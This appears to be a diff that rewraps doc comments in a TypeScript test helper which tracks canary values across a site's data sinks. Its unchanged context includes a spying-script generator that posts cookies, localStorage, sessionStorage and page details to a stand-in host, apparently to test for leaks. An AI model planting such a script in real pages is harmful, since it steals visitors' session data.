@@ -8,7 +8,10 @@ import type { Site } from './start-site.ts'
 
 const codeHost = 'tags.example.com'
 
-/** Sends to a host of its own everything that a third-party script can read of the page without a form: its address, its title, cookies and storages. */
+/**
+ * Sends to a host of its own everything that a third-party script can read of the page without a form: its address, its
+ * title, cookies and storages.
+ */
 const spyOn = (host: string): string => `
 const send = (what) => fetch('https://${host}/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify([what && typeof what === 'object' ? { ...what } : what,
   location.href, document.referrer, document.title, document.cookie, { ...localStorage }, { ...sessionStorage }, window.name, history.state]) }).catch(() => {});
@@ -36,7 +39,10 @@ new Image().src = 'https://blocked.example/pixel';
 document.write('');
 })()</script>`
 
-/** Switches on every sink of a site that is not a chat, also on secure documents; consent is asked for. `security`: fields of its own. */
+/**
+ * Switches on every sink of a site that is not a chat, also on secure documents; consent is asked for. `security`:
+ * fields of its own.
+ */
 export async function switchOnSinks(site: Site, security: object = {}): Promise<void> {
   const { values } = JSON.parse(await readFile(join(site.folder, 'settings/site.json'), 'utf8')) as {
     values: { functionalSettings: object }
@@ -57,7 +63,10 @@ export async function switchOnSinks(site: Site, security: object = {}): Promise<
   )
 }
 
-/** Calls whose input goes to those who count, or to a chat; what other calls carry is the player's own business with the platform. */
+/**
+ * Calls whose input goes to those who count, or to a chat; what other calls carry is the player's own business with the
+ * platform.
+ */
 const sinkCalls = /\/api\/(events\.handle|tracking\.hit|FreshChat\.storeChatEvent|storage\.set)$/i
 const globalsOfChats = ['fcSettings', '__lc', 'liveTexID', 'LiveTex', 'VerboxSetup', 'supportAPIMethod', 'jivo_config']
 
@@ -80,22 +89,28 @@ const holds = (text: string, canary: string): boolean =>
 const unread = '(unread)'
 const sinkNames = ['requests', 'html', 'console', 'recordings', 'page', 'cookies', 'chats', 'log'] as const
 type SinkName = (typeof sinkNames)[number]
-/** Where a canary belongs: lines of a sink, of the requests those that begin with method and address, of the documents with their address. */
+/**
+ * Where a canary belongs: lines of a sink, of the requests those that begin with method and address, of the documents
+ * with their address.
+ */
 export type Place = { readonly sink: SinkName; readonly where?: RegExp }
 type Canary = { readonly value: string; readonly places: readonly Place[] }
 
 export type Sinks = {
   /** Adds values that may be in no sink from now on, but for these places. */
   readonly add: (canaries: Readonly<Record<string, string>>, ...places: readonly Place[]) => void
-  /** Which canaries are in which sinks, once the page has come to rest. `frame`: the site's own, where another page holds it. */
+  /**
+   * Which canaries are in which sinks, once the page has come to rest. `frame`: the site's own, where another page
+   * holds it.
+   */
   readonly found: (page: Page, frame?: Frame) => Promise<readonly string[]>
   /** Everything that a sink has got. */
   readonly text: (sink: 'requests' | 'console' | 'recordings') => string
 }
 
 /**
- * Follows every sink of a context: requests, the HTML of documents, console, what the browser stores, recordings of flows, the log of the server. Opens a page that
- * listens to the recordings.
+ * Follows every sink of a context: requests, the HTML of documents, console, what the browser stores, recordings of
+ * flows, the log of the server. Opens a page that listens to the recordings.
  */
 export async function followSinks(context: BrowserContext, { address, program }: Site): Promise<Sinks> {
   const canaries = new Map<string, Canary>()
